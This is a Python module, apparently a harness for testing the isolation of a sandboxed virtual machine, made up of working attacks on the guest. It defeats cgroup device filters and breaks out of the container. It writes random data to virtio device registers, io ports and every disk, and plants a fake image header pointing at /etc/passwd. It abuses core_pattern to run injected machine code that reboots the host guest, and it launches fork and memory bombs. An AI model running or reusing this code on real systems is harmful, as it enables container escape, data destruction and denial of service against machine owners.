"""Attacks on the machine itself: out of the container first, then the link, devices, disks, memory, the kernel."""
import ctypes
import errno
import glob
import mmap
import os
import random
import signal
import stat
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
rng = random.Random(444)
BPF, DEVICE = 321, 6


def told(call):
    try:
        value = call()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    return "ok" if value is None else value


def mount(path, flags, source="none", kind=None):
    if libc.mount(source.encode(), path.encode(), kind and kind.encode(), flags, None) != 0:
        raise OSError(ctypes.get_errno(), path)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes.ljust(128, b"\0"), 128)
    value = libc.syscall(BPF, command, buffer, 128)
    if value < 0:
        raise OSError(ctypes.get_errno(), "bpf %d" % command)
    return value, buffer.raw


def undo_device_filter():
    """Whoever has CAP_SYS_ADMIN in the container takes the filter of its devices away."""
    os.makedirs("/tmp/cgroup", exist_ok=True)
    told(lambda: mount("/tmp/cgroup", 0, kind="cgroup2"))
    folder = os.open("/tmp/cgroup", os.O_RDONLY)
    ids = (ctypes.c_uint32 * 16)()
    _, answer = bpf(16, struct.pack("=IIIIQI", folder, DEVICE, 0, 0, ctypes.addressof(ids), 16))
    count = struct.unpack_from("=I", answer, 24)[0]
    for number in ids[:count]:
        program, _ = bpf(13, struct.pack("=III", number, 0, 0))
        bpf(9, struct.pack("=IIII", folder, program, DEVICE, 0))
    return count


def break_out():
    """Everything between the app and the guest's kernel that root can take away."""
    remount, bind = 32, 4096
    result = {"device filter": told(undo_device_filter)}
    for path in ("/proc/sys", "/proc/sysrq-trigger", "/proc/irq", "/proc/bus"):
        result[path] = told(lambda path=path: mount(path, remount | bind))
    result["/sys"] = told(lambda: mount("/sys", remount | bind))
    return {"outcome": "done", "detail": result}


def node(path, kind, major, minor):
    if not os.path.exists(path):
        os.mknod(path, kind | 0o600, os.makedev(major, minor))
    return path


def numbers(path):
    with open(path) as file:
        major, minor = file.read().strip().split(":")
    return int(major), int(minor)


def later(work):
    """In a process of its own, so that this request is answered before its effect."""
    if os.fork() == 0:
        os.setsid()
        time.sleep(0.3)
        try:
            work()
        finally:
            os._exit(0)
    return {"outcome": "done"}


def link():
    """Takes the link's port from under the agent, by taking its driver away. The answer goes out before: it needs the link."""
    driver = "/sys/bus/virtio/drivers/virtio_console"
    device = [name for name in os.listdir(driver) if name.startswith("virtio")][0]
    return later(lambda: put(driver + "/unbind", device))


def virtio_places():
    found = []
    with open("/proc/iomem") as file:
        for line in file:
            span, _, name = line.strip().partition(" : ")
            if "virtio" in name.lower() or "LNRO0005" in name:
                first, last = (int(part, 16) for part in span.split("-"))
                found.append((first, last + 1 - first))
    return found


def open_memory():
    return os.open(node("/tmp/mem", stat.S_IFCHR, 1, 1), os.O_RDWR | os.O_SYNC)


def memory():
    """What of physical memory can be read and mapped at all."""
    result = {"open": told(lambda: os.close(open_memory())), "virtio": ["%x" % first for first, _ in virtio_places()]}
    if result["open"] == "ok":
        file = open_memory()
        result["kernel"] = told(lambda: len(os.pread(file, 16, 1 << 24)))
        for first, _ in virtio_places()[:1]:
            result["registers"] = told(lambda first=first: mmap.mmap(file, 4096, offset=first & ~4095).close())
        os.close(file)
    result["port"] = told(lambda: os.close(os.open(node("/tmp/ioport", stat.S_IFCHR, 1, 4), os.O_RDWR)))
    result["iopl"] = "ok" if libc.syscall(172, 3) == 0 else errno.errorcode.get(ctypes.get_errno())
    result["kcore"] = told(lambda: os.close(os.open("/proc/kcore", os.O_RDONLY)))
    return {"outcome": "done", "detail": result}


def let_go():
    """The kernel keeps registers of devices that have a driver from everybody; so they lose it. Not what the answer needs."""
    drivers = "/sys/bus/platform/drivers/virtio-mmio"
    problems = []
    for name in os.listdir(drivers):
        kinds = glob.glob("%s/%s/virtio*/device" % (drivers, name))
        if not kinds:
            continue
        with open(kinds[0]) as file:
            kind = int(file.read(), 16)
        # NIC, RNG, balloon.
        if kind in (1, 4, 5):
            problems.append("%s %s" % (name, told(lambda name=name: put(drivers + "/unbind", name))))
    return problems


def put(path, text):
    with open(path, "w") as file:
        file.write(text)


def registers(count="20000"):
    """Random words to random registers of the virtio devices that can be had."""
    problems = let_go()
    file = open_memory()
    pages = []
    for first, length in sorted(set(virtio_places())):
        try:
            pages.append((mmap.mmap(file, 4096, offset=first & ~4095), first & 4095, min(length, 512)))
        except OSError as error:
            problems.append("%x %s" % (first, errno.errorcode.get(error.errno)))
    # What starts a device, then anything.
    likely = (0x14, 0x24, 0x30, 0x38, 0x44, 0x50, 0x70, 0x80, 0x84, 0x90, 0x94, 0xA0, 0xA4)
    for number in range(int(count) if pages else 0):
        page, start, length = rng.choice(pages)
        at = rng.choice(likely) if number % 2 else 4 * rng.randrange(length // 4)
        value = rng.choice((0, 1, 2, 15, 0xFFFFFFFF, rng.getrandbits(32)))
        struct.pack_into("=I", page, start + at % length, value)
    return {"outcome": "done", "detail": {"pages": len(pages), "problems": problems}}


def io_ports(count="20000"):
    """Random bytes to random ports, by the instruction itself."""
    if libc.syscall(172, 3) != 0:
        raise OSError(ctypes.get_errno(), "iopl")
    # mov edx, edi; mov eax, esi; out dx, al; ret
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("89fa89f0eec3"))
    out = ctypes.CFUNCTYPE(None, ctypes.c_uint32, ctypes.c_uint32)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    for _ in range(int(count)):
        port = rng.choice((rng.randrange(0x400), rng.randrange(65536)))
        # The coprocessor's port sends this program an error signal.
        if port & ~1 != 0xF0:
            out(port, rng.randrange(256))
    return {"outcome": "done"}


def disks(megabytes="4"):
    """Random blocks to every disk the machine has."""
    result = {}
    for path in sorted(glob.glob("/sys/class/block/vd*/dev")):
        name = path.split("/")[-2]

        def work(name=name, path=path):
            disk = os.open(node("/tmp/" + name, stat.S_IFBLK, *numbers(path)), os.O_RDWR)
            size = os.lseek(disk, 0, os.SEEK_END)
            if size < 8192:
                return "empty"
            for _ in range(int(megabytes) * 16):
                os.pwrite(disk, rng.getrandbits(8 * 65536).to_bytes(65536, "big")[: size // 2], rng.randrange(size // 2) & ~511)
            # A header of another format, which nobody may believe.
            os.pwrite(disk, b"QFI\xfb" + struct.pack("!IQI", 3, 512, 10) + b"/etc/passwd".ljust(496, b"\0"), 0)
            os.fsync(disk)
            os.close(disk)

        result[name] = told(work)
    return {"outcome": "done", "detail": result}


def sysrq(key):
    put("/proc/sysrq-trigger", key)
    return {"outcome": "done"}


def kill_init():
    """Process 1 of this container, then every process it can name, then the kernel's own helper as root of the guest."""
    result = {}
    for who in (-1, 1):
        result[str(who)] = told(lambda who=who: os.kill(who, 0))
    return {"outcome": "done", "detail": result}


def outside(code):
    """Runs machine code outside the container, as root of the guest itself: a core dump's helper does."""
    head = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    head += struct.pack("=HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    head += struct.pack("=IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(code), 120 + len(code), 4096)
    with open("/tmp/helper", "wb") as file:
        file.write(head + code)
    os.chmod("/tmp/helper", 0o755)
    put("/proc/sys/kernel/core_pattern", "|/proc/%P/root/tmp/helper")
    return later(lambda: os.kill(os.getpid(), signal.SIGSEGV))


def helper():
    """Resets the machine: reboot(LINUX_REBOOT_CMD_RESTART), which no container may call."""
    return outside(bytes.fromhex("b8a9000000bfaddee1febe69191228ba674523014d31d20f05b83c00000031ff0f05"))


def fork_bomb(most="1500"):
    made = 0
    try:
        for _ in range(int(most)):
            if os.fork() == 0:
                signal.pause()
            made += 1
    except OSError as error:
        return {"outcome": "refused", "errno": errno.errorcode.get(error.errno), "detail": made}
    return {"outcome": "done", "detail": made}


def memory_bomb():
    """In processes that may be killed; until nothing is left."""

    def work():
        for _ in range(8):
            if os.fork() == 0:
                break
        held = []
        while True:
            held.append(bytearray(os.urandom(4096)) * 4096)

    return later(work)


ATTACKS = {
    "break-out": break_out,
    "link": link,
    "memory": memory,
    "registers": registers,
    "io-ports": io_ports,
    "disks": disks,
    "sysrq": sysrq,
    "kill-init": kill_init,
    "helper": helper,
    "fork-bomb": fork_bomb,
    "memory-bomb": memory_bomb,
}
